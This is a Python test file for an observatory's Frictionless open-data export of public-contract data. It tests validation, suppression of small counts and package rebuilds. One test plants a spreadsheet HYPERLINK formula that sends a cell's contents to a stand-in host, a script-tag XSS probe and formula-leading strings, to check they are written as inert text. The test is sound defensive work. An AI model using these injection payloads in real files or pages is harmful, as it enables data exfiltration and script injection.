"""Open data (issue 17, point 2): the Frictionless data packages of ``observatoire opendata``.

No notebook is executed here: the packages are built from the report suite the session renders
once (``rendered_suite``, shared with the other report tests) and from a few buyer sheets (light
renderer), copied into a temporary folder; validated by the ``frictionless`` library.
"""

from __future__ import annotations

import csv
import json
import shutil

import frictionless
import pandas as pd
import pytest

from analysis import config, disclosure, opendata
from analysis.periods import Period
from analysis.publish import read_record

from conftest import SUITE_PERIOD, SUITE_QUARTER

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")'
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture(scope="module")
def packages(rendered_suite, tmp_path_factory):
    """The session's reports (both periods), a few buyer sheets and the EPT / EPCI sheets, copied
    aside, with their data packages built: ``(reports folder, build summary)``."""
    from analysis import buyer_sheets, territory_sheets

    reports = tmp_path_factory.mktemp("opendata") / "reports"
    source = config.paths().reports
    for period in (SUITE_PERIOD, SUITE_QUARTER):
        shutil.copytree(source / period, reports / period)
    buyer_sheets.render_all(reports_dir=reports, min_contracts=200, jobs=1)
    territory_sheets.render_all(reports_dir=reports, jobs=1, period=Period.parse(SUITE_PERIOD))
    return reports, opendata.build_all(reports)


def _read(path):
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def _package(reports, period):
    folder = reports / config.OPENDATA_FOLDER / period
    return folder, json.loads((folder / opendata.DESCRIPTOR).read_text(encoding="utf-8"))


def test_every_period_gets_a_package_that_frictionless_validates(packages):
    reports, summary = packages
    assert sorted(p.period for p in summary.packages) == sorted([SUITE_PERIOD, SUITE_QUARTER])
    for period in (SUITE_PERIOD, SUITE_QUARTER):
        folder, descriptor = _package(reports, period)
        report = frictionless.validate(folder / opendata.DESCRIPTOR)
        errors = [(task.name, error.type, error.message) for task in report.tasks
                  for error in task.errors] + [(None, e.type, e.message) for e in report.errors]
        assert report.valid and not errors, errors[:10]
        assert report.stats["tasks"] == len(descriptor["resources"]) >= 3
        assert descriptor["licenses"][0]["name"] == "etalab-2.0"
        assert descriptor["sources"] and descriptor["observatoire"]["entrepot"]["sources"]
        for resource in descriptor["resources"]:
            assert resource["title"] and resource["description"]
            for spec in resource["schema"]["fields"]:
                assert spec["title"] and spec["description"], (resource["name"], spec["name"])
                assert spec["type"] in {"integer", "number", "string", "date", "boolean"}
            assert resource["schema"]["primaryKey"]
    # the buyer sheets are in the package of their period, one resource per table
    _, descriptor = _package(reports, SUITE_PERIOD)
    names = {r["name"] for r in descriptor["resources"]}
    assert "fiche_acheteur.part_par_annee" in names
    assert "rapport_annuel.progression_annuelle" in names
    # and the EPT / EPCI sheets, stacked by the territory's SIREN (the site's territory filter)
    assert "fiche_territoire.part_par_annee" in names
    folder, _ = _package(reports, SUITE_PERIOD)
    stacked = _read(folder / "agregats" / "fiche_territoire.part_par_annee.csv")
    assert stacked["territoire"].str.fullmatch(r"\d{9}").all() and stacked["territoire"].nunique() > 1


def test_aggregates_are_the_published_tables_cell_for_cell(packages):
    reports, _ = packages
    for period in (SUITE_PERIOD, SUITE_QUARTER):
        folder, descriptor = _package(reports, period)
        resources = {r["name"]: r for r in descriptor["resources"]}
        published = opendata.published_tables(reports, Period.parse(period))
        assert published
        stacked: dict = {}
        secret_published = secret_packaged = 0
        for item in published:
            name = f"{item.slug}.{item.table['name']}".lower()
            resource = resources[name]
            if name not in stacked:
                stacked[name] = _read(folder / resource["path"])
                secret_packaged += int((stacked[name] == disclosure.SECRET_SYMBOL).to_numpy().sum())
            key = resource["schema"]["primaryKey"][0]
            rows = stacked[name].loc[stacked[name][key] == item.key].reset_index(drop=True)
            original = opendata.read_published_csv(item.csv)
            secret_published += int((original == disclosure.SECRET_SYMBOL).to_numpy().sum())
            assert len(rows) == len(original) == item.table["rows"], (name, item.key)
            types = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
            for column in original.columns:
                for mine, theirs in zip(rows[column], original[column]):
                    if theirs in opendata.MISSING:
                        assert mine == theirs, (name, column)
                    elif types[column] in ("number", "integer"):
                        assert float(mine) == float(theirs.replace(",", ".")), (name, column)
                    elif types[column] == "string":
                        assert mine == opendata.csv_safe(theirs), (name, column)
        # every secret cell published is secret in the package, and no other cell is
        assert secret_packaged == secret_published


def test_extended_data_are_the_regions_contracts_with_a_social_consideration(packages):
    reports, _ = packages
    folder, descriptor = _package(reports, SUITE_PERIOD)
    rows = _read(folder / f"{opendata.EXTENDED}.csv")
    counts = descriptor["observatoire"]["comptage_marches"]
    assert len(rows) == counts["publies"] > 0 and rows["uid"].is_unique
    # raw = kept + excluded: the région's contracts of the period
    assert counts["contrats_periode"] == (counts["publies"] + counts["statut_inconnu"]
                                          + counts["sans_consideration"])
    # the same count as the annual report published for the year
    table = _read(folder / "agregats" / "rapport_annuel.progression_annuelle.csv")
    year = table.loc[table["Année"] == SUITE_PERIOD]
    assert int(year["Avec considération sociale"].iloc[0]) == len(rows)
    kinds = rows[["clause_sociale", "critere_social", "marche_reserve"]].eq("true").any(axis=1)
    assert kinds.all()
    assert set(rows["statut_climat_resilience"]) <= {
        "soumis à l'obligation", "au-dessus des seuils, avant l'obligation", "sous les seuils",
        "indéterminé"}
    assert rows["titulaire_inclusif"].isin(["true", "false"]).all()
    assert (rows["titulaire_inclusif"] == "true").any()
    linked = rows["operations_suivies"].astype(int) > 0
    assert linked.any() and (rows.loc[linked, "heures_prevues"] != "").all()
    # the titles of the DECP columns are the data dictionary's
    from analysis.schemas import dictionary_frame

    titles = dict(zip(*dictionary_frame("contracts")[["colonne", "titre"]].to_numpy().T))
    extended = next(r for r in descriptor["resources"] if r["name"] == opendata.EXTENDED)
    shared = [f for f in extended["schema"]["fields"] if f["name"] in titles]
    assert len(shared) >= 20 and all(f["title"] == titles[f["name"]] for f in shared)


def test_no_people_count_under_k_in_the_extended_data(packages):
    reports, _ = packages
    k = config.suppression_k()
    for period in (SUITE_PERIOD, SUITE_QUARTER):
        folder, _ = _package(reports, period)
        rows = _read(folder / f"{opendata.EXTENDED}.csv")
        people = rows["beneficiaires"]
        shown = people[~people.isin(opendata.MISSING)].astype(int)
        assert ((shown == 0) | (shown >= k)).all(), shown[(shown > 0) & (shown < k)].tolist()
        # the hours of fewer than k people are hidden with their count (a count hidden only to
        # protect another, k people or more, may keep its hours)
        from analysis.warehouse import load_table

        operations, work = load_table("operations"), load_table("work_contracts")
        work = work.merge(operations[["operation_id", "decp_uid"]], on="operation_id")
        true = rows["uid"].map(work.groupby("decp_uid")["participant_id"].nunique()).fillna(0)
        small = (true > 0) & (true < k)
        assert small.any() or period != SUITE_PERIOD
        assert (rows.loc[small, "beneficiaires"] == disclosure.SECRET_SYMBOL).all()
        assert (rows.loc[small, "heures_realisees"] == disclosure.SECRET_SYMBOL).all()
        hidden = people == disclosure.SECRET_SYMBOL
        if period == SUITE_PERIOD:      # the test can fail: both kinds of cell are there
            assert hidden.any() and (shown >= k).any()


def test_a_hidden_count_cannot_be_recovered_from_the_buyers_total():
    # one buyer, three contracts: 2, 10 and 12 distinct people (24 in all), hours by 4 employers
    table = pd.DataFrame({"acheteur_id": ["B"] * 3, "beneficiaires": [2, 10, 12],
                          "heures_realisees": [300.0, 2000.0, 2500.0]}, index=["a", "b", "c"])
    work = pd.DataFrame({
        "uid": ["a"] * 2 + ["b"] * 10 + ["c"] * 12, "acheteur_id": "B",
        "participant_id": [f"p{i}" for i in range(24)],
        "heures": [150.0] * 2 + [200.0] * 10 + [2500.0 / 12] * 12,
        "employeur_siret": [f"E{i % 4}" for i in range(24)]})
    mask = opendata._protect_execution(table, work, k=5)
    assert mask.at["a", "beneficiaires"] and mask.at["a", "heures_realisees"]
    # never a single hidden cell in the buyer: its total would give it away
    assert mask["beneficiaires"].sum() >= 2 and mask["heures_realisees"].sum() >= 2


def test_formulas_and_markup_in_a_contract_object_stay_inert_text(small_warehouse, tmp_path):
    from analysis.scope import Scope
    from analysis.warehouse import load_table

    period = Period.parse(SUITE_PERIOD)
    contracts = load_table("contracts").copy()
    social = Scope(config.REGION_CODE, period).period_contracts
    chosen = social.loc[social["has_social_consideration"].eq(True).fillna(False).astype(bool),
                        "uid"].head(3).tolist()
    objects = {chosen[0]: HYPERLINK, chosen[1]: SCRIPT, chosen[2]: "-2+3"}
    contracts["objet"] = contracts["uid"].map(objects).fillna(contracts["objet"])
    rows, _ = opendata.extended_contracts(period, config.suppression_k(),
                                          tables={"contracts": contracts})
    path = tmp_path / "etendues.csv"
    opendata._write_csv(rows, path)
    with open(path, encoding="utf-8", newline="") as handle:
        found = {row["uid"]: row["objet"] for row in csv.DictReader(handle)}
    assert found[chosen[0]] == "'" + HYPERLINK          # a spreadsheet shows it as text
    assert found[chosen[2]] == "'-2+3"
    assert found[chosen[1]] == SCRIPT                   # CSV text, unchanged, never markup
    # the aggregates' text columns are guarded too, numbers (negative ones) left numbers
    published = tmp_path / "t_tableaux" / "t.csv"
    published.parent.mkdir()
    published.write_text("\ufeffObjet;Écart (points)\n=1+1;-2,5\n@SUM(A1);3\n", encoding="utf-8")
    item = opendata.Published("rapport_annuel", "11", "Rapport", {
        "name": "t", "caption": "Essai", "people": [], "magnitudes": []}, published,
        published.with_suffix(".xlsx"))
    (resource, frame), = opendata.stack_aggregates([item], k=5)
    assert frame["Objet"].tolist() == ["'=1+1", "'@SUM(A1)"]
    assert frame["Écart (points)"].tolist() == ["-2.5", "3"]
    types = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
    assert types["Écart (points)"] == "number" and types["Objet"] == "string"


def test_a_current_package_is_skipped_and_a_stale_one_removed(packages, tmp_path):
    reports, _ = packages
    work = tmp_path / "reports"
    shutil.copytree(reports, work)
    folder, _ = _package(work, SUITE_PERIOD)
    before = (folder / opendata.DESCRIPTOR).read_bytes()
    again = opendata.build_all(work)
    assert all(p.skipped for p in again.packages)
    assert (folder / opendata.DESCRIPTOR).read_bytes() == before
    # a published table changed: that period's package is written again, the other kept
    record = read_record(work / SUITE_QUARTER / "93" / "fiche_departementale.json")
    table = record["tables"][0]["name"]
    csv_path = work / SUITE_QUARTER / "93" / "fiche_departementale_tableaux" / f"{table}.csv"
    text = csv_path.read_text(encoding="utf-8-sig")
    csv_path.write_text(text + text.strip().splitlines()[-1] + "\n", encoding="utf-8-sig")
    changed = {p.period: p.skipped for p in opendata.build_all(work).packages}
    assert changed == {SUITE_PERIOD: True, SUITE_QUARTER: False}
    # a period without reports any more loses its package
    shutil.rmtree(work / SUITE_QUARTER)
    third = opendata.build_all(work)
    assert [p.period for p in third.packages] == [SUITE_PERIOD] and third.packages[0].skipped
    assert third.removed == [SUITE_QUARTER]
    assert not (work / config.OPENDATA_FOLDER / SUITE_QUARTER).exists()
    assert not list(work.glob(f".{config.OPENDATA_FOLDER}-*")), "nothing left aside"
